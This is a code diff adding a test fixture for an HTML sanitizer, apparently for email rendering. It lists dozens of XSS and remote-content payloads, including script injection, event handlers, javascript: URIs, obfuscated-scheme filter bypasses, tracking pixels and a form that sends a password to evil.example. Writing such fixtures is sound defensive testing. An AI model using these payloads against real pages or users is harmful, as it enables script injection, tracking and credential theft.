@@ -234,3 +234,55 @@ ALL = {
     "thousand_parts": thousand_parts,
     "huge_headers": huge_headers,
 }
+
+
+# --- hostile HTML (what a rendering must neutralise) -----------------------------------
+
+def html_attack_list() -> list[str]:
+    """HTML fragments that each try one way to run code, submit a form, load
+    remote content or restyle the page."""
+    return [
+        "<script>alert(1)</script>",
+        "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+        "<img src=x onerror=alert(1)>",
+        "<img src=\"http://evil.example/track.gif\">",
+        "<img src=\"https://evil.example/track.gif\" width=1 height=1>",
+        "<body onload=alert(1)>text</body>",
+        "<a href=\"javascript:alert(1)\">click</a>",
+        "<a href=\"JaVaScRiPt&colon;alert(1)\">click</a>",
+        "<a href=\"&#106;avascript:alert(1)\">click</a>",
+        "<a href=\"vbscript:msgbox(1)\">click</a>",
+        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
+        "<iframe src=\"http://evil.example/\"></iframe>",
+        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+        "<form action=\"http://evil.example/steal\"><input name=password><button>go</button></form>",
+        "<style>body { background: url(http://evil.example/bg.png) }</style>",
+        "<div style=\"background-image: url('http://evil.example/x')\">x</div>",
+        "<p style=\"behavior: url(x.htc)\">x</p>",
+        "<object data=\"http://evil.example/x.swf\"></object>",
+        "<embed src=\"http://evil.example/x.swf\">",
+        "<svg onload=alert(1)><script>alert(2)</script></svg>",
+        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\">",
+        "<link rel=stylesheet href=\"http://evil.example/x.css\">",
+        "<base href=\"http://evil.example/\">",
+        "<table background=\"http://evil.example/x.png\"><tr><td>x</td></tr></table>",
+        "<video src=\"http://evil.example/x.mp4\" poster=\"http://evil.example/p.png\"></video>",
+        "<!--[if IE]><script>alert(1)</script><![endif]-->",
+        "<scr<script>ipt>alert(1)</scr</script>ipt>",
+        "<<img src=x onerror=alert(1)//<",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "<textarea><script>alert(1)</script></textarea>",
+        "<a href=\"http://evil.example/\" onclick=\"alert(1)\" onmouseover=\"alert(2)\">x</a>",
+        "<input type=image src=\"http://evil.example/x.png\">",
+    ]
+
+
+def html_attacks() -> str:
+    """One HTML document with every attack of html_attack_list(), plus what
+    must survive: text, a safe link, an inline image of the message
+    (cid:logo@test)."""
+    return ("<html><head><title>t</title></head><body>"
+            "<p>visible text</p><a href=\"https://example.org/ok\">a safe link</a>"
+            "<img src=\"cid:logo@test\" alt=\"logo\">"
+            + "".join(html_attack_list()) + "</body></html>")
